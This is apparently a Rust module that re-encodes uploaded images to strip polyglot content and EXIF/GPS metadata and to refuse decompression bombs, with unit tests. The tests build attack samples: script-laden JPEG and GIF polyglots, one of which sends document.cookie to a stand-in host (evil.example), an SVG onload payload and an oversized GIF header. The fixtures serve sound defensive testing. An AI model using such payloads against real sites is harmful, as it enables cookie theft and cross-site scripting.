//! Uploaded pictures, decoded and drawn again before anything is kept.
//!
//! A file that starts like a JPEG can go on as HTML, a GIF as JavaScript
//! (a polyglot): served with `nosniff` it stays a picture, but nothing of it
//! should be kept. Phone photos carry EXIF metadata, the GPS position of
//! the creator's home among it. So an upload is decoded (the `image`
//! crate), turned the way its EXIF orientation says, made at most
//! [`LONGEST_SIDE`] pixels on its longer side (a card never shows more),
//! and encoded again from its pixels alone: a JPEG where it came lossy
//! (JPEG, or WebP without transparency), else a PNG (a PNG, a GIF's first
//! frame, a WebP with transparency). Nothing around or after the picture, and no metadata,
//! survives. A file that claims more than [`MAX_PIXELS`] pixels (a
//! decompression bomb) is refused before it is decoded.

use image::codecs::jpeg::JpegEncoder;
use image::imageops::FilterType;
use image::{DynamicImage, ImageDecoder, ImageFormat, ImageReader, Limits};
use std::io::Cursor;

/// Most pixels a picture may claim (a 40-megapixel phone photo fits).
pub const MAX_PIXELS: u64 = 40_000_000;
/// The longest side a stored picture keeps.
pub const LONGEST_SIDE: u32 = 2048;
/// Most memory decoding may take.
const MAX_DECODE_BYTES: u64 = 512 * 1024 * 1024;

/// A picture as stored: its bytes, drawn again, and what they are.
#[derive(Debug)]
pub struct Picture {
    pub bytes: Vec<u8>,
    pub content_type: &'static str,
    pub ext: &'static str,
    pub width: u32,
    pub height: u32,
}

/// Why an upload is not a picture the platform keeps.
#[derive(Debug, PartialEq)]
pub enum Refused {
    /// Not a JPEG, PNG, WebP or GIF, by its first bytes.
    NotAPicture,
    /// It says it is larger than [`MAX_PIXELS`].
    TooManyPixels { width: u32, height: u32 },
    /// It starts like a picture but does not decode as one.
    Broken(String),
}

/// The format of a file by its first bytes (never its name or type). Only
/// raster formats every browser shows: SVG can carry script and links;
/// AVIF and HEIC would need a C decoder on the server.
pub fn sniff(bytes: &[u8]) -> Option<ImageFormat> {
    let at = |range: std::ops::Range<usize>| bytes.get(range).unwrap_or_default();
    if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
        Some(ImageFormat::Jpeg)
    } else if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        Some(ImageFormat::Png)
    } else if bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a") {
        Some(ImageFormat::Gif)
    } else if at(0..4) == b"RIFF" && at(8..12) == b"WEBP" {
        Some(ImageFormat::WebP)
    } else {
        None
    }
}

/// Decodes `bytes` and encodes the picture again from its pixels.
pub fn redraw(bytes: &[u8]) -> Result<Picture, Refused> {
    let format = sniff(bytes).ok_or(Refused::NotAPicture)?;
    let mut reader = ImageReader::with_format(Cursor::new(bytes), format);
    let mut limits = Limits::default();
    limits.max_alloc = Some(MAX_DECODE_BYTES);
    reader.limits(limits);
    let broken = |e: image::ImageError| Refused::Broken(e.to_string());
    let mut decoder = reader.into_decoder().map_err(broken)?;
    let (width, height) = decoder.dimensions();
    if u64::from(width) * u64::from(height) > MAX_PIXELS {
        return Err(Refused::TooManyPixels { width, height });
    }
    let orientation = decoder
        .orientation()
        .unwrap_or(image::metadata::Orientation::NoTransforms);
    let mut picture = DynamicImage::from_decoder(decoder).map_err(broken)?;
    picture.apply_orientation(orientation);
    if picture.width().max(picture.height()) > LONGEST_SIDE {
        picture = picture.resize(LONGEST_SIDE, LONGEST_SIDE, FilterType::Triangle);
    }
    let mut out = Vec::new();
    let lossy = matches!(format, ImageFormat::Jpeg | ImageFormat::WebP);
    let (content_type, ext) = if !lossy || picture.color().has_alpha() {
        picture
            .to_rgba8()
            .write_to(&mut Cursor::new(&mut out), ImageFormat::Png)
            .map_err(broken)?;
        ("image/png", "png")
    } else {
        picture
            .to_rgb8()
            .write_with_encoder(JpegEncoder::new_with_quality(&mut out, 88))
            .map_err(broken)?;
        ("image/jpeg", "jpg")
    };
    Ok(Picture {
        bytes: out,
        content_type,
        ext,
        width: picture.width(),
        height: picture.height(),
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use image::{Rgb, RgbImage, Rgba, RgbaImage};

    /// A small opaque picture, encoded as `format`.
    pub(crate) fn encoded(format: ImageFormat, width: u32, height: u32) -> Vec<u8> {
        let picture = RgbImage::from_fn(width, height, |x, y| {
            Rgb([(x * 9) as u8, (y * 9) as u8, 90])
        });
        let mut out = Vec::new();
        DynamicImage::ImageRgb8(picture)
            .write_to(&mut Cursor::new(&mut out), format)
            .unwrap();
        out
    }

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn pictures_are_judged_by_their_bytes() {
        assert_eq!(
            sniff(&[0xFF, 0xD8, 0xFF, 0xE0, 0, 0]),
            Some(ImageFormat::Jpeg)
        );
        assert_eq!(
            sniff(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
            Some(ImageFormat::Png)
        );
        assert_eq!(sniff(b"GIF89a\x01\0"), Some(ImageFormat::Gif));
        assert_eq!(sniff(b"RIFF\x24\0\0\0WEBPVP8 "), Some(ImageFormat::WebP));
        // Named .jpg, but text; an SVG (script can hide in it); AVIF, HEIC; too short.
        assert_eq!(sniff(b"just some text, renamed photo.jpg"), None);
        assert_eq!(
            sniff(b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>"),
            None
        );
        assert_eq!(sniff(b"\0\0\0\x1cftypavif\0\0\0\0"), None);
        assert_eq!(sniff(b"\0\0\0\x18ftypheic"), None);
        assert_eq!(sniff(b"RIFF"), None);
        assert_eq!(sniff(b""), None);
    }

    /// The attack: a JPEG followed by an HTML page, kept byte for byte.
    #[test]
    fn a_jpeg_followed_by_html_keeps_only_the_picture() {
        let mut polyglot = encoded(ImageFormat::Jpeg, 24, 16);
        polyglot.extend_from_slice(b"<html><script>alert(document.cookie)</script></html>");
        let picture = redraw(&polyglot).unwrap();
        assert!(!contains(&picture.bytes, b"<script"));
        assert_eq!(
            (picture.content_type, picture.width, picture.height),
            ("image/jpeg", 24, 16)
        );
        assert!(image::load_from_memory(&picture.bytes).is_ok());
    }

    /// The attack: a GIF whose bytes go on as JavaScript.
    #[test]
    fn a_gif_followed_by_javascript_keeps_only_the_picture() {
        let mut polyglot = encoded(ImageFormat::Gif, 10, 10);
        polyglot.extend_from_slice(b"*/=1;fetch('//evil.example/?'+document.cookie)//");
        let picture = redraw(&polyglot).unwrap();
        assert!(!contains(&picture.bytes, b"evil.example"));
        assert!(
            !picture.bytes.starts_with(b"GIF"),
            "drawn again, not passed on"
        );
    }

    /// A JPEG with an EXIF segment (APP1) after its start: orientation 6
    /// (turned 90° clockwise) and a GPS position.
    pub(crate) fn phone_photo() -> Vec<u8> {
        let jpeg = encoded(ImageFormat::Jpeg, 40, 20);
        let mut tiff: Vec<u8> = b"II*\0\x08\0\0\0".to_vec();
        // One IFD entry: Orientation (0x0112), SHORT, 1, value 6; no next IFD.
        tiff.extend_from_slice(&[1, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0, 0]);
        tiff.extend_from_slice(b"GPSLatitude 31.2304N GPSLongitude 121.4737E");
        let mut app1 = b"Exif\0\0".to_vec();
        app1.extend_from_slice(&tiff);
        let length = (app1.len() + 2) as u16;
        let mut photo = jpeg[..2].to_vec();
        photo.extend_from_slice(&[0xFF, 0xE1]);
        photo.extend_from_slice(&length.to_be_bytes());
        photo.extend_from_slice(&app1);
        photo.extend_from_slice(&jpeg[2..]);
        photo
    }

    #[test]
    fn a_phone_photo_loses_its_exif_and_gps_but_keeps_its_way_up() {
        let photo = phone_photo();
        assert!(contains(&photo, b"GPSLatitude") && image::load_from_memory(&photo).is_ok());
        let picture = redraw(&photo).unwrap();
        assert!(!contains(&picture.bytes, b"GPSLatitude") && !contains(&picture.bytes, b"Exif"));
        assert_eq!(
            (picture.width, picture.height),
            (20, 40),
            "turned as its orientation said"
        );
    }

    /// The attack: a small file that claims 65,535 × 65,535 pixels.
    #[test]
    fn a_decompression_bomb_is_refused_before_it_is_decoded() {
        let mut bomb = encoded(ImageFormat::Gif, 8, 8);
        bomb[6..10].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0xFF]); // the logical screen
        assert_eq!(
            redraw(&bomb).unwrap_err(),
            Refused::TooManyPixels {
                width: 65535,
                height: 65535
            }
        );
    }

    #[test]
    fn transparency_is_kept_as_png_and_big_pictures_are_made_smaller() {
        let clear = RgbaImage::from_pixel(3000, 1000, Rgba([10, 20, 30, 0]));
        let mut png = Vec::new();
        DynamicImage::ImageRgba8(clear)
            .write_to(&mut Cursor::new(&mut png), ImageFormat::Png)
            .unwrap();
        let picture = redraw(&png).unwrap();
        assert_eq!(picture.content_type, "image/png");
        assert_eq!((picture.width, picture.height), (2048, 683));
        assert_eq!(
            redraw(b"<svg onload=alert(1)>").unwrap_err(),
            Refused::NotAPicture
        );
        assert!(matches!(
            redraw(b"\x89PNG\r\n\x1a\nnot really"),
            Err(Refused::Broken(_))
        ));
    }
}
